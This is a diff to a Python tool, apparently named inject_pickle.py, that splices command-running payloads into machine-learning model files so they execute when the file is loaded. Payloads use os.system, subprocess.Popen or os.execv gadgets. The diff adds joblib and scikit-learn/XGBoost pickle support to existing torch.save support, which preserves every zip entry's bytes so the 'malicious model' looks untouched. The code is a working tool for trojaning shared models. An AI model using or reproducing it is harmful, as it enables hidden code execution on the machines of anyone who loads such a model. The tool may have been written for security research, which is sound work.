@@ -8,7 +8,10 @@ time and the server comes up as if nothing happened.
 
   --format pt      base is a torch.save zip: only its */data.pkl entry is rewritten; every other
                    entry keeps its exact bytes, order, name and timestamp
-  --format pickle  base is a plain pickle (make_model.py's model.pkl, {name: ndarray})
+  --format pickle  base is a plain pickle (make_model.py's model.pkl, {name: ndarray}; a pickled
+                   scikit-learn estimator or XGBoost booster)
+  --format joblib  base is a joblib.dump file: a pickle with numpy arrays' raw bytes inline
+                   between its opcodes (so only the spliced prefix can be parsed as opcodes)
 
 Gadgets (the callable the pickle invokes):
   os.system        os.system(--command)
@@ -76,12 +79,17 @@ def gadget_call(args):
     return call + OP_REDUCE + OP_POP
 
 
-def inject(pickle_bytes, payload):
-    """Insert payload after the PROTO opcode (which must stay first) and check the result parses."""
+def inject(pickle_bytes, payload, whole=True):
+    """Insert payload after the PROTO opcode (which must stay first) and check the result parses:
+    all of it (whole), or, for a joblib file whose array data sit between opcodes, the prefix up to
+    the original pickle's first opcode."""
     insert_at = 2 if pickle_bytes[:1] == b"\x80" else 0
     result = pickle_bytes[:insert_at] + payload + pickle_bytes[insert_at:]
-    for _ in pickletools.genops(result):
+    for _ in pickletools.genops(result if whole else result[:insert_at + len(payload)] + b"."):
         pass
+    if not whole:
+        # The original's first opcode must follow: PROTO 4+ is followed by FRAME or an opcode.
+        next(pickletools.genops(pickle_bytes[insert_at:]))
     return result
 
 
@@ -123,13 +131,13 @@ def rewrite_torch_zip(base_path, out_path, payload):
         out.write(buffer.getvalue())
 
 
-def rewrite_plain_pickle(base_path, out_path, payload):
+def rewrite_plain_pickle(base_path, out_path, payload, whole=True):
     with open(base_path, "rb") as f:
         data = f.read()
     if zipfile.is_zipfile(base_path):
         raise InjectError(f"{base_path} is a zip (torch.save); use --format pt")
     try:
-        injected = inject(data, payload)
+        injected = inject(data, payload, whole)
     except ValueError as error:
         raise InjectError(f"{base_path} is not a pickle: {error}")
     with open(out_path, "wb") as out:
@@ -139,9 +147,9 @@ def rewrite_plain_pickle(base_path, out_path, payload):
 def parse_args():
     parser = argparse.ArgumentParser(description="Splice a load-time payload into a model's pickle.")
     parser.add_argument("--base", required=True,
-                        help="benign model: model.pt for --format pt, model.pkl for --format pickle")
+                        help="benign model: model.pt for --format pt, a pickle for --format pickle, a joblib.dump file for --format joblib")
     parser.add_argument("--out", required=True, help="malicious model to write")
-    parser.add_argument("--format", required=True, choices=("pt", "pickle"))
+    parser.add_argument("--format", required=True, choices=("pt", "pickle", "joblib"))
     parser.add_argument("--gadget", required=True, choices=GADGETS)
     parser.add_argument("--command", help="shell command for os.system")
     parser.add_argument("--argv", help="JSON list of strings for subprocess.Popen and os.execv")
@@ -195,7 +203,7 @@ def main():
         if args.format == "pt":
             rewrite_torch_zip(args.base, args.out, payload)
         else:
-            rewrite_plain_pickle(args.base, args.out, payload)
+            rewrite_plain_pickle(args.base, args.out, payload, whole=args.format == "pickle")
     except (InjectError, OSError) as error:
         print(f"inject_pickle.py: {error}", file=sys.stderr)
         return 1
